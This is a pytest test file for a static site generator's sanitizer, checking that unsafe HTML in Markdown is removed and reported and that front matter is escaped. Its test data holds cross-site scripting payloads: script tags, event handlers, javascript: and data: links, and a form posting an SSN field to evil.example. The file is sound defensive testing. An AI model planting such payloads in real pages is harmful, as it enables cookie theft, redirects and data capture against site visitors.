"""Unsafe HTML in Markdown is removed and reported; front matter is always escaped.

Each snippet is pasted into a page: the build succeeds, the page keeps its text, nothing
that could run code or load another site is left in the output, and a warning names the
file and line. With --strict the same warning is an error and the old site is untouched.
"""

from __future__ import annotations

import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import ROOT
from support import leftovers, messages, tree_hashes

FRONT = "---\ntitle: A page\ndescription: A short description.\n---\nSome text.\n\n"
LINE = 7  # the first line after FRONT
REMOVED = "was removed: pages may not run code or load other sites"
HINT = "  hint: use Markdown for text, links and pictures"

# name -> (what the editor pasted, the warning's first words, text that must not survive)
SNIPPETS: dict[str, tuple[str, str, list[str]]] = {
    "script": ('<script>steal("cookies")</script>', "a <script> element", ["<script", "steal("]),
    "script in capitals": ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "a <script>"
                           " element", ["<script", "evil.example"]),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "a <iframe> element",
               ["<iframe", "evil.example"]),
    "object": ('<object data="https://evil.example/movie.swf"></object>', "a <object> element",
               ["<object", "evil.example"]),
    "embed": ('<embed src="https://evil.example/movie.swf">', "a <embed> element",
              ["<embed", "evil.example"]),
    "form": ('<form action="https://evil.example/"><input name="ssn"></form>',
             "a <form> element", ["<form", "evil.example", "<input"]),
    "style element": ("<style>body { display: none }</style>", "a <style> element",
                      ["<style", "display: none"]),
    "meta refresh": ('<meta http-equiv="refresh" content="0; url=https://evil.example/">',
                     "a <meta> element", ["evil.example"]),
    "onclick": ('<a href="/about/" onclick="steal()">About us</a>', "an event-handler attribute",
                ["onclick", "steal("]),
    "onerror on an image": ('<img src="/images/curve.svg" alt="A curve" onerror="steal()">',
                            "an event-handler attribute", ["onerror", "steal("]),
    "onclick on a second line": ('<a href="/about/"\nonclick="steal()">About us</a>',
                                 "an event-handler attribute", ["onclick", "steal("]),
    "javascript: in a Markdown link": ("[Click here](javascript:steal())", "a javascript: link",
                                       ["javascript:", "steal("]),
    "javascript: in an HTML link": ('<a href="javascript:steal()">Click</a>',
                                    "a javascript: link", ["javascript:", "steal("]),
    "javascript: in a reference link": ("[Click here][x]\n\n[x]: javascript:steal()",
                                        "a javascript: link", ["javascript:", "steal("]),
    "javascript: hidden by an entity": ('<a href="&#106;avascript:steal()">Click</a>',
                                        "a javascript: link", ["avascript:", "steal("]),
    "vbscript: link": ('<a href="vbscript:msgbox(1)">Click</a>', "a vbscript: link",
                       ["vbscript:", "msgbox"]),
    "data: in a Markdown link": ("[Open](data:text/html;base64,PHNjcmlwdD4=)", "a data: link",
                                 ["data:", "PHNjcmlwdD4"]),
    "data: in an HTML image": ('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">',
                               "a data: link", ["data:", "PHN2Zz4"]),
    "style attribute": ('<p style="position:fixed;top:0">Look here</p>', "a style attribute",
                        ["style=", "position:fixed"]),
}  # fmt: skip


def snippet_page(site: Path, snippet: str) -> Path:
    page = site / "content/causes/a.md"
    page.write_text(FRONT + snippet + "\n", encoding="utf-8")
    return page


def main_html(site: Path, rel: str = "causes/a/index.html") -> str:
    """The page's <main>: the part the page's own content goes into."""
    text = (site / "_site" / rel).read_text(encoding="utf-8")
    return text[text.index("<main>") : text.index("</main>")]


@pytest.mark.parametrize("name", SNIPPETS)
def test_unsafe_html_is_removed_and_reported(name: str, site: Path, run) -> None:
    snippet, what, banned = SNIPPETS[name]
    snippet_page(site, snippet)
    result = run("build")
    assert result.code == 0, result.err
    line = LINE + snippet.count("\n") * ("second line" in name or "reference" in name)
    warning = f"content/causes/a.md:{line}: warning: {what} {REMOVED}"
    lines = messages(result.err)
    assert warning in lines, result.err
    assert lines[lines.index(warning) + 1] == HINT
    body = main_html(site).lower()
    assert "<p>some text.</p>" in body, "the rest of the page is kept"
    for text in banned:
        assert text.lower() not in body


def test_text_around_removed_html_is_kept(site: Path, run) -> None:
    snippet_page(site, '<a href="/about/" onclick="steal()">About us</a> and [more](/causes/).')
    assert run("build").code == 0
    body = main_html(site)
    assert '<a href="../../about/">About us</a>' in body
    assert '<a href="../">more</a>' in body


def test_safe_html_is_kept_without_a_warning(site: Path, run) -> None:
    snippet_page(site, '<p class="note">Call <a href="tel:+12065550100">us</a>.</p>')
    result = run("build")
    assert result.code == 0
    own = [line for line in result.err.splitlines() if line.startswith("content/causes/a.md")]
    assert not [line for line in own if "was removed" in line]  # release items may remain
    assert '<p class="note">Call <a href="tel:+12065550100">us</a>.</p>' in main_html(site)


@pytest.mark.parametrize("name", ["script", "onclick", "javascript: in a Markdown link"])
def test_strict_makes_unsafe_html_an_error_and_keeps_the_old_site(
    name: str, site: Path, run
) -> None:
    assert run("build").code == 0
    before = tree_hashes(site / "_site")
    snippet, what, _ = SNIPPETS[name]
    snippet_page(site, snippet)
    content = tree_hashes(site / "content")
    result = run("build", "--strict")
    assert result.code == 1
    lines = messages(result.err)
    error = f"content/causes/a.md:{LINE}: {what} {REMOVED}"
    assert error in lines
    assert lines[lines.index(error) + 1] == HINT
    assert lines[-1].startswith("build failed: ") and lines[-1].endswith("; _site is unchanged")
    assert tree_hashes(site / "_site") == before
    assert tree_hashes(site / "content") == content
    assert not leftovers(site)


# --- front matter is escaped in templates ------------------------------------------

EVIL_TITLE = "<script>alert(1)</script> & \"quotes\" 'too'"
EVIL_DESCRIPTION = '"><img src=x onerror=alert(2)>'


class _Page(HTMLParser):
    """Collects the text of <h1> and <title>, every <script>, and every attribute value."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.where: list[str] = []
        self.text: dict[str, str] = {"h1": "", "title": ""}
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.where.append(tag)
        if tag == "script":
            self.scripts.append((dict(attrs), ""))

    def handle_endtag(self, tag: str) -> None:
        if self.where and self.where[-1] == tag:
            self.where.pop()

    def handle_data(self, data: str) -> None:
        here = self.where[-1] if self.where else ""
        if here in self.text:
            self.text[here] += data
        if here == "script":
            attrs, text = self.scripts[-1]
            self.scripts[-1] = (attrs, text + data)


def parse(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    return page


def strings(value: object) -> list[str]:
    """Every string inside parsed JSON."""
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return [value] if isinstance(value, str) else []


def evil_page(content: Path) -> None:
    (content / "causes/a.md").write_text(
        f"---\ntitle: {json.dumps(EVIL_TITLE)}\ndescription: {json.dumps(EVIL_DESCRIPTION)}\n"
        f"summary: {json.dumps(EVIL_TITLE)}\n---\nSome text.\n",
        encoding="utf-8",
    )


def test_front_matter_is_escaped_in_the_fixture_templates(site: Path, run) -> None:
    evil_page(site / "content")
    assert run("build").code == 0
    out = site / "_site/causes/a/index.html"
    page = parse(out)
    assert page.text["h1"] == EVIL_TITLE, "the title shows as text"
    assert [t for t, a in page.tags if t == "img"] == []
    assert page.scripts == []
    raw = out.read_text()
    assert "<script>alert(1)" not in raw and "<img src=x" not in raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in raw


def test_front_matter_is_escaped_in_the_real_templates(tmp_path: Path, monkeypatch, run) -> None:
    """The project's own templates put titles in <title>, meta tags, JSON-LD and the feed."""
    for folder in ("content", "templates", "static"):
        shutil.copytree(ROOT / folder, tmp_path / folder)
    monkeypatch.chdir(tmp_path)
    evil_page(tmp_path / "content")
    assert run("build", "--no-cache").code == 0
    out = tmp_path / "_site/causes/a/index.html"
    page = parse(out)
    assert page.text["h1"].strip() == EVIL_TITLE
    assert page.text["title"].startswith(EVIL_TITLE)
    assert not [a for t, a in page.tags if t == "img" and a.get("src") == "x"]
    assert not any("onerror" in a for _, a in page.tags)
    described = [
        a["content"] for t, a in page.tags if t == "meta" and a.get("name") == "description"
    ]
    assert described == [EVIL_DESCRIPTION]
    for attrs, text in page.scripts:  # only data and the site's own scripts, never the title's
        assert "alert(1)" not in text or attrs.get("type") == "application/ld+json"
        if attrs.get("type") == "application/ld+json":
            assert "</" not in text
            assert EVIL_TITLE in strings(json.loads(text)), "the title is data, read back whole"
    raw = out.read_text()
    assert "<script>alert(1)" not in raw and "<img src=x" not in raw
